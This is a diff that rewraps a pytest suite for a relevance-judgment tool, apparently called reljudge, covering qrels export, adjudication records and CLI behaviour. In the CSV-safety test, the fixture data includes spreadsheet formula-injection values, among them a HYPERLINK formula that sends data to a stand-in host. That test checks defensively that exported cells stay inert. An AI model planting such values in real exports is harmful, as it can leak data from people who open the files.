@@ -16,11 +16,23 @@ from reljudge.errors import InputError, ReljudgeError
 @pytest.fixture
 def judged(campaign_db):
     db = campaign_db
-    for user, qid, pid, grade in [("ann", "q1", "p02", 2), ("bob", "q1", "p02", 2),
-                                  ("ann", "q1", "p01", 2), ("bob", "q1", "p01", 0),
-                                  ("ann", "q2", "p04", 1), ("ann", "q1", "p03", 0)]:
-        judging.grade(db, user, qid, pid, grade, note="메모" if pid == "p02" and user == "ann" else None,
-                      evidence="감사의 생활이란" if grade == 2 and user == "ann" else None)
+    for user, qid, pid, grade in [
+        ("ann", "q1", "p02", 2),
+        ("bob", "q1", "p02", 2),
+        ("ann", "q1", "p01", 2),
+        ("bob", "q1", "p01", 0),
+        ("ann", "q2", "p04", 1),
+        ("ann", "q1", "p03", 0),
+    ]:
+        judging.grade(
+            db,
+            user,
+            qid,
+            pid,
+            grade,
+            note="메모" if pid == "p02" and user == "ann" else None,
+            evidence="감사의 생활이란" if grade == 2 and user == "ann" else None,
+        )
     judging.mark_no_answer(db, "ann", "q3", True)
     judging.mark_no_answer(db, "bob", "q3", True)
     return db
@@ -31,8 +43,7 @@ def test_trec_export_expands_duplicates_and_writes_no_answer_file(judged, tmp_pa
     summary = export.write_qrels(judged, out, "trec")
     lines = sorted(out.read_text(encoding="utf-8").splitlines())
     # p01 is judged 2 vs 0 -> tie -> 0; its copies p06, p07 carry the same grade
-    assert lines == sorted(["q1 0 p02 2", "q1 0 p01 0", "q1 0 p06 0", "q1 0 p07 0", "q1 0 p03 0",
-                            "q2 0 p04 1"])
+    assert lines == sorted(["q1 0 p02 2", "q1 0 p01 0", "q1 0 p06 0", "q1 0 p07 0", "q1 0 p03 0", "q2 0 p04 1"])
     side = pd.read_csv(summary.paths[1], sep="\t")
     assert list(side.qid) == ["q3"] and summary.n_no_answer == 1
 
@@ -40,7 +51,7 @@ def test_trec_export_expands_duplicates_and_writes_no_answer_file(judged, tmp_pa
 def test_adjudicated_policy_and_frozen_version(judged, tmp_path):
     adjudication.adjudicate(judged, "lee", "q1", "p01", 2, "정의 문장 있음")
     v = adjudication.freeze(judged, "lee")
-    judging.grade(judged, "ann", "q2", "p05", 2)                      # after the freeze
+    judging.grade(judged, "ann", "q2", "p05", 2)  # after the freeze
     live = export.qrels_table(judged)[0]
     frozen = export.qrels_table(judged, version=v)[0]
     assert "p05" in set(live.pid) and "p05" not in set(frozen.pid)
@@ -57,8 +68,10 @@ def test_rich_formats_carry_provenance_notes_evidence(judged, tmp_path, fmt):
     out = tmp_path / f"q.{fmt}"
     export.write_qrels(judged, out, fmt)
     if fmt == "jsonl":
-        rows = [json.loads(x, parse_constant=lambda t: pytest.fail(f"non-JSON {t}"))
-                for x in out.read_text(encoding="utf-8").splitlines()]
+        rows = [
+            json.loads(x, parse_constant=lambda t: pytest.fail(f"non-JSON {t}"))
+            for x in out.read_text(encoding="utf-8").splitlines()
+        ]
         frame = pd.DataFrame(rows)
     elif fmt == "csv":
         frame = pd.read_csv(out)
@@ -77,7 +90,8 @@ def test_beir_round_trip_and_agreement_with_source(judged, tmp_path):
     out = tmp_path / "back.tsv"
     export.write_qrels(judged, out, "beir", policy="source:beir-ref")
     assert sorted(out.read_text(encoding="utf-8").splitlines()[1:]) == sorted(
-        f.read_text(encoding="utf-8").splitlines()[1:])
+        f.read_text(encoding="utf-8").splitlines()[1:]
+    )
     assert out.read_text(encoding="utf-8").splitlines()[0] == "query-id\tcorpus-id\tscore"
     report = agreement.from_database(judged)
     assert "source:beir-ref" in report.grades.annotators
@@ -88,12 +102,13 @@ def test_beir_round_trip_and_agreement_with_source(judged, tmp_path):
 
 def test_trec_round_trip(judged, tmp_path):
     f = tmp_path / "ext.qrels"
-    f.write_text("q1 0 p02 2\nq1 0 p06 1\nq2 0 p05 0\nq1 0 p02 2\n", encoding="utf-8")   # exact repeat ok
+    f.write_text("q1 0 p02 2\nq1 0 p06 1\nq2 0 p05 0\nq1 0 p02 2\n", encoding="utf-8")  # exact repeat ok
     export.import_qrels(judged, f, "trec-ref")
     out = tmp_path / "out.qrels"
     export.write_qrels(judged, out, "trec", policy="source:trec-ref")
-    assert sorted(out.read_text(encoding="utf-8").splitlines()) == sorted(set(
-        f.read_text(encoding="utf-8").splitlines()))
+    assert sorted(out.read_text(encoding="utf-8").splitlines()) == sorted(
+        set(f.read_text(encoding="utf-8").splitlines())
+    )
 
 
 BAD = [
@@ -136,22 +151,57 @@ def test_export_judgments_history_and_cli(judged, db_path, tmp_path):
 
     def strict(token):  # NaN / Infinity are not JSON; other tools' parsers reject them
         raise ValueError(f"non-JSON token {token}")
-    events = [json.loads(line, parse_constant=strict)
-              for line in (tmp_path / "events.jsonl").read_text(encoding="utf-8").splitlines()]
+
+    events = [
+        json.loads(line, parse_constant=strict)
+        for line in (tmp_path / "events.jsonl").read_text(encoding="utf-8").splitlines()
+    ]
     verdict = next(e for e in events if e["qid"] == "q3")
     assert verdict["pid"] is None and verdict["grade"] is None and verdict["no_answer"] is True
     assert sum(e["note"] == "메모" for e in events) == 1 and sum(e["note"] is None for e in events) == 7
     judged.close()
-    r = subprocess.run([sys.executable, "-m", "reljudge", "--db", str(db_path), "export", "qrels",
-                        "--format", "trec", "--policy", "nonsense", "-o", str(tmp_path / "x")],
-                       capture_output=True, text=True)
+    r = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "reljudge",
+            "--db",
+            str(db_path),
+            "export",
+            "qrels",
+            "--format",
+            "trec",
+            "--policy",
+            "nonsense",
+            "-o",
+            str(tmp_path / "x"),
+        ],
+        capture_output=True,
+        text=True,
+    )
     assert r.returncode == 2 and "unknown policy" in r.stderr and "Traceback" not in r.stderr
-    r = subprocess.run([sys.executable, "-m", "reljudge", "--db", str(db_path), "export", "judgments",
-                        "--format", "csv", "-o", str(tmp_path / "ev.csv")], capture_output=True, text=True)
+    r = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "reljudge",
+            "--db",
+            str(db_path),
+            "export",
+            "judgments",
+            "--format",
+            "csv",
+            "-o",
+            str(tmp_path / "ev.csv"),
+        ],
+        capture_output=True,
+        text=True,
+    )
     assert r.returncode == 0 and len(pd.read_csv(tmp_path / "ev.csv")) == 8
     with pytest.raises(ReljudgeError):
-        export.qrels_table(__import__("reljudge.storage", fromlist=["open_database"]).open_database(db_path),
-                           policy="source:missing")
+        export.qrels_table(
+            __import__("reljudge.storage", fromlist=["open_database"]).open_database(db_path), policy="source:missing"
+        )
 
 
 def test_adjudications_export_keeps_every_ruling_with_its_reason(judged, db_path, tmp_path):
@@ -161,24 +211,42 @@ def test_adjudications_export_keeps_every_ruling_with_its_reason(judged, db_path
     assert export.write_adjudications(judged, tmp_path / "adj.jsonl") == 3
     rows = [json.loads(line) for line in (tmp_path / "adj.jsonl").read_text(encoding="utf-8").splitlines()]
     assert [(r["lead"], r["qid"], r["pid"], r["grade"], r["no_answer"], r["in_force"]) for r in rows] == [
-        ("lee", "q1", "p01", 1, None, False), ("kim", "q1", "p01", 2, None, True),
-        ("lee", "q3", None, None, False, True)]
+        ("lee", "q1", "p01", 1, None, False),
+        ("kim", "q1", "p01", 2, None, True),
+        ("lee", "q3", None, None, False, True),
+    ]
     assert rows[1]["reason"] == "둘째 문장이 정의를 직접 서술함" and rows[0]["created_at"]
     judged.close()
-    r = subprocess.run([sys.executable, "-m", "reljudge", "--db", str(db_path), "export", "adjudications",
-                        "--format", "csv", "-o", str(tmp_path / "adj.csv")], capture_output=True, text=True)
+    r = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "reljudge",
+            "--db",
+            str(db_path),
+            "export",
+            "adjudications",
+            "--format",
+            "csv",
+            "-o",
+            str(tmp_path / "adj.csv"),
+        ],
+        capture_output=True,
+        text=True,
+    )
     assert r.returncode == 0 and "3 adjudications" in r.stdout
     assert list(pd.read_csv(tmp_path / "adj.csv").reason)[0] == "관련은 있으나 정의가 없음"
 
 
 def test_a_bad_qrels_import_is_worded_in_korean_for_the_pages(judged, tmp_path):
     from reljudge import i18n
+
     f = _write(tmp_path / "a.qrels", "q1 0 p02 2\nq1 0 p02 1\n")
     with pytest.raises(InputError) as err:
         export.import_qrels(judged, f, "ref")
     ko = i18n.message(err.value.message, "ko")
     assert str(f) in ko and "2번째 줄" in ko and "서로 다른 중복" in ko
-    assert "conflicting duplicate" in str(err.value)          # the CLI's English text
+    assert "conflicting duplicate" in str(err.value)  # the CLI's English text
 
 
 def test_no_csv_cell_is_a_live_spreadsheet_formula(db, tmp_path):
@@ -188,17 +256,28 @@ def test_no_csv_cell_is_a_live_spreadsheet_formula(db, tmp_path):
     import csv
     from reljudge import auth, campaign
     from reljudge.ui.tables import csv_bytes
+
     corpus = tmp_path / "corpus.jsonl"
-    corpus.write_text("".join(json.dumps({"pid": pid, "text": f"본문 {k}"}, ensure_ascii=False) + "\n" for k, pid in
-                              enumerate(['=HYPERLINK("http://x.example/?leak")', "+p2", "-p3", "@p4"])),
-                      encoding="utf-8")
+    corpus.write_text(
+        "".join(
+            json.dumps({"pid": pid, "text": f"본문 {k}"}, ensure_ascii=False) + "\n"
+            for k, pid in enumerate(['=HYPERLINK("http://x.example/?leak")', "+p2", "-p3", "@p4"])
+        ),
+        encoding="utf-8",
+    )
     questions = tmp_path / "questions.jsonl"
-    questions.write_text(json.dumps({"qid": "=1+1", "text": "질문?", "type": "사실 확인"}, ensure_ascii=False)
-                         + "\n" + json.dumps({"qid": "@q2", "text": "질문 둘?", "type": "사실 확인"},
-                                             ensure_ascii=False) + "\n", encoding="utf-8")
+    questions.write_text(
+        json.dumps({"qid": "=1+1", "text": "질문?", "type": "사실 확인"}, ensure_ascii=False)
+        + "\n"
+        + json.dumps({"qid": "@q2", "text": "질문 둘?", "type": "사실 확인"}, ensure_ascii=False)
+        + "\n",
+        encoding="utf-8",
+    )
     run = tmp_path / "s.run"
-    run.write_text('=1+1 Q0 =HYPERLINK("http://x.example/?leak") 1 9 s\n=1+1 Q0 +p2 2 8 s\n'
-                   "=1+1 Q0 -p3 3 7 s\n@q2 Q0 @p4 1 9 s\n", encoding="utf-8")
+    run.write_text(
+        '=1+1 Q0 =HYPERLINK("http://x.example/?leak") 1 9 s\n=1+1 Q0 +p2 2 8 s\n=1+1 Q0 -p3 3 7 s\n@q2 Q0 @p4 1 9 s\n',
+        encoding="utf-8",
+    )
     campaign.import_file(db, "corpus", corpus)
     campaign.import_file(db, "questions", questions)
     campaign.import_file(db, "run", run, system="s")
@@ -248,12 +327,14 @@ def test_no_answer_questions_are_left_out_of_exported_qrels_unless_asked(judged,
         assert "also as rows" in kept.message()
     page = {d.key: d for d in export.downloads(judged, "trec")}
     assert b"q3" not in page["qrels"].build() and b"q3" in page["no_answer"].build()
-    assert b"q3 0 p08 0" in {d.key: d for d in export.downloads(judged, "trec", include_no_answer=True)}[
-        "qrels"].build()
+    assert (
+        b"q3 0 p08 0" in {d.key: d for d in export.downloads(judged, "trec", include_no_answer=True)}["qrels"].build()
+    )
 
 
 def test_cli_include_no_answer_only_for_qrels(judged, tmp_path):
     from reljudge.cli import main
+
     if judged.backend != "duckdb":
         pytest.skip("the CLI part runs on the file")
     judging.grade(judged, "ann", "q3", "p08", 0)
